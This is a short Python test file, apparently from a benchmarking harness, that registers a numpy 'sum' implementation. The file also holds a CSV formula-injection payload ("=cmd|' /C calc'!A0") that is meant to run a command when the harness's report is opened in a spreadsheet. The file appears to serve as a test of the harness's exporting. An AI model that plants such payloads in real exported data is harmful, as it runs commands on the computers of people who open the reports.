"""A reason that a spreadsheet would run when the CSV of a report is opened.

Source: exploit 66.
"""

import numpy as np

from harness import implementation


def right(x, dim):
    return np.asarray(np.sum(x, axis=dim)).astype(x.dtype)


FORMULA = "=cmd|' /C calc'!A0"


@implementation("sum", backend="numpy", supports=lambda case: FORMULA)
def refuses_with_a_formula(x, *, dim):
    return right(x, dim)
